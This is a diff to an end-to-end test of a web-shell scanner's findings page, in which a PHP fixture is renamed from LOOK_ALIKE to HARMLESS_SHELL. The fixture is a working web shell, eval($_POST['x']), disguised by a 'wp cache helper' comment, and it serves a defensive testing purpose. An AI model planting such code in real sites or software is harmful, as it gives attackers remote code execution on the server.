@@ -14,7 +14,7 @@ import { chownToSite, makeTestSite, type TestSite } from './test-site';
 jest.setTimeout(400_000);
 
 /** Does what web shells do, and nothing else. */
-const LOOK_ALIKE = "<?php\n// wp cache helper\neval($_POST['x'] ?? 'echo 7 * 6;');\n";
+const HARMLESS_SHELL = "<?php\n// wp cache helper\neval($_POST['x'] ?? 'echo 7 * 6;');\n";
 const PATH = '/wwwroot/a.php';
 
 describe('findings of a web-shell scan', () => {
@@ -25,10 +25,10 @@ describe('findings of a web-shell scan', () => {
   beforeAll(async () => {
     product = sharedProduct();
     site = await makeTestSite(product, 'scanned');
-    writeFileSync(join(site.root, 'a.php'), LOOK_ALIKE);
+    writeFileSync(join(site.root, 'a.php'), HARMLESS_SHELL);
     chownToSite(site);
     const rows = await openTaskRows(product);
-    await addFinding(rows, 'scanned', { path: PATH, content: LOOK_ALIKE });
+    await addFinding(rows, 'scanned', { path: PATH, content: HARMLESS_SHELL });
     await rows.close();
     browser = await openBrowser();
   });
@@ -65,7 +65,7 @@ describe('findings of a web-shell scan', () => {
     expect(existsSync(join(site.root, 'a.php'))).toBe(false);
     await page.getByRole('button', { name: '撤销' }).click();
     await page.getByText(`已恢复 ${PATH}`).waitFor();
-    expect(readFileSync(join(site.root, 'a.php'), 'utf8')).toBe(LOOK_ALIKE);
+    expect(readFileSync(join(site.root, 'a.php'), 'utf8')).toBe(HARMLESS_SHELL);
     await eventually(async () => expect(await served()).toEqual({ status: 200, body: '42' }));
     await page.context().close();
   });
